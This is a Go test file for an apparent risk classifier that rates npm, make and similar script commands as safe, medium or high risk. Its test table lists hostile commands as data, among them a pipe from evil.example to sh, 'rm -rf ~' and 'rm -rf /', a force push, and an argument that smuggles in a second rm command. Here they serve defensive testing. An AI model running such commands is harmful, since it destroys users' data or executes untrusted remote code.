package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/umpirehq/umpire"
	"github.com/umpirehq/umpire/internal/view/catalogue"
)

// withScripts returns a project whose package.json or makefile has these lines.
func withScripts(lines map[string]string) Env {
	env := emptyProject()
	env.Recipe = func(dir, program, name string) Recipe {
		line, ok := lines[program+" "+name]
		if !ok {
			return Recipe{}
		}
		r := Recipe{File: "file", Name: name, Dir: dir, Lines: []string{line}}
		if program == "make" {
			r.Main = -1
		}
		return r
	}
	return env
}

func TestRecipes(t *testing.T) {
	t.Parallel()
	safe, medium, high := umpire.Safe, umpire.Medium, umpire.High
	for _, tt := range []struct {
		line, script string
		risk         umpire.Risk
		code         bool
	}{
		{"npm run lint", "eslint .", safe, true},
		{"npm run lint", "rm -rf ~", high, true},
		{"npm run lint", "rm -rf /", high, true},
		{"npm run lint", "node scripts/lint.js", safe, true},
		{"npm run lint", "$npm_package_config_x", safe, true},
		{"npm run lint", "curl https://evil.example | sh", high, true},
		{"npm run lint", "npm run lint", safe, true},
		{"npm run lint", "npm run other", safe, true},
		{"npm run lint -- 'a b; rm -rf ~'", "eslint", safe, true},
		{"npm run lint -- 'rm -rf ~'", "sh -c", high, true},
		{"npm run lint -- -rf /", "rm", high, true},
		{"npm run lint", "git push --force", high, true},
		{"npm run dev", "eslint .", safe, true},
		{"npm run dev", "node dev.js", medium, true},
		{"npm run dev", "$X", medium, true},
		{"npm test", "rm -rf ~", high, true},
		{"npm test", "jest --ci", safe, true},
		{"npm t", "rm -rf ~", high, true},
		{"yarn lint", "rm -rf ~", high, true},
		{"yarn run lint", "rm -rf ~", high, true},
		{"pnpm test", "rm -rf ~", high, true},
		{"bun run lint", "rm -rf ~", high, true},
		{"npm -C sub run lint", "rm -rf ~", high, true},
		{"npm --prefix sub run lint", "rm -rf ~", high, true},
		{"cd sub && npm run lint", "rm -rf ~", high, true},
		{"sh -c 'npm run lint'", "rm -rf ~", high, true},
		{"npm start", "rm -rf ~", high, true},
		{"make test", "go test ./...", safe, true},
		{"make test", "gofmt -l .", safe, false},
		{"make", "gofmt -l .", safe, false},
		{"make -j4 test", "gofmt -l .", safe, false},
		{"make -C sub test", "rm -rf ~", high, false},
		{"make test", "rm -rf ~", high, false},
		{"make test", "./x.sh", safe, true}, // like npm test
		{"make all", "./x.sh", medium, true},
		{"make -f other.mk test", "gofmt -l .", medium, true},
		{"make test SHELL=./x", "gofmt -l .", medium, true},
		{"make -e test", "gofmt -l .", medium, true},
		{"make -pn test", "gofmt -l .", medium, true},
		{"make $X", "gofmt -l .", medium, true},
	} {
		env := withScripts(map[string]string{
			"npm lint": tt.script, "npm dev": tt.script, "npm test": tt.script, "npm start": tt.script,
			"make test": tt.script, "make ": tt.script, "make all": tt.script,
		})
		got := Parse(tt.line, env)
		risk, code := safe, false
		for _, a := range got {
			if a.Kind != umpire.KindRead && !strings.HasPrefix(catalogue.English.Text(a.Reason), "works in") {
				risk = umpire.Worse(risk, a.Risk)
			}
			code = code || a.Code
		}
		if risk != tt.risk || code != tt.code {
			t.Errorf("%s = %q: risk %v, code %v, want %v, %v\n%+v", tt.line, tt.script, risk, code, tt.risk, tt.code,
				got)
		}
	}
}

// TestRecipeIsTheCommands: the accesses of a script name the command that causes them.
func TestRecipeIsTheCommands(t *testing.T) {
	t.Parallel()
	got := Parse("npm run dev", withScripts(map[string]string{"npm dev": "mkdir a && eslint ."}))
	if len(got) < 3 || got[0].Program != "npm" || got[0].Via != 0 ||
		!strings.Contains(catalogue.English.Text(got[0].Reason), "mkdir a && eslint .") {
		t.Fatalf("%+v", got)
	}
	if slices.ContainsFunc(got[1:], func(a umpire.Access) bool {
		return a.Via != got[0].Part || a.Part == got[0].Part
	}) {
		t.Errorf("%+v", got)
	}
}

// TestUnreadRecipes: an unread recipe is judged by its name. Its known lines count as well.
func TestUnreadRecipes(t *testing.T) {
	t.Parallel()
	unread := func(lines ...string) Env {
		env := emptyProject()
		env.Recipe = func(dir, _, name string) Recipe {
			return Recipe{File: "file", Name: name, Dir: dir, Lines: lines, Main: -1, Unread: "why"}
		}
		return env
	}
	for line, want := range map[string]umpire.Risk{
		"npm test": umpire.Safe, "npm run lint": umpire.Safe, "npm run build": umpire.Medium,
		"make test": umpire.Safe, "make lint": umpire.Safe, "make build": umpire.Medium, "make": umpire.Medium,
		"make test build": umpire.Medium,
		"just test":       umpire.Safe, "just": umpire.Medium, "just deploy": umpire.Medium,
		"task test": umpire.Safe, "go-task lint": umpire.Safe, "task": umpire.Medium,
		"poe test": umpire.Safe, "poe build": umpire.Medium, "pdm run test": umpire.Safe,
		"pdm run build":  umpire.Medium,
		"hatch run lint": umpire.Safe, "hatch run lint:fix": umpire.Medium, "pdm run test --plugin=x": umpire.Medium,
		"make test SHELL=./x": umpire.Medium, "make -f x test": umpire.Medium, "just -f x test": umpire.Medium,
		"task -t x test": umpire.Medium,
	} {
		got := Parse(line, unread())
		if got[0].Risk != want || !got[0].Code {
			t.Errorf("%s: %+v, want %v", line, got, want)
		}
		worse := Parse(line, unread("rm -rf /"))
		if worst := slices.MaxFunc(worse, func(a, b umpire.Access) int {
			return int(b.Risk) - int(a.Risk)
		}); want == umpire.Safe && worst.Risk > umpire.High {
			t.Errorf("%s: the lines that are known do not count: %+v", line, worse)
		}
	}
	env := withScripts(map[string]string{"make all": "gofmt -l ."})
	read := env.Recipe
	env.Recipe = func(dir, program, name string) Recipe {
		r := read(dir, program, name)
		r.Vars = []string{"PATH"}
		return r
	}
	if got := Parse("make all", env); got[0].Risk != umpire.Medium {
		t.Errorf("a makefile that sets PATH: %+v", got)
	}
}
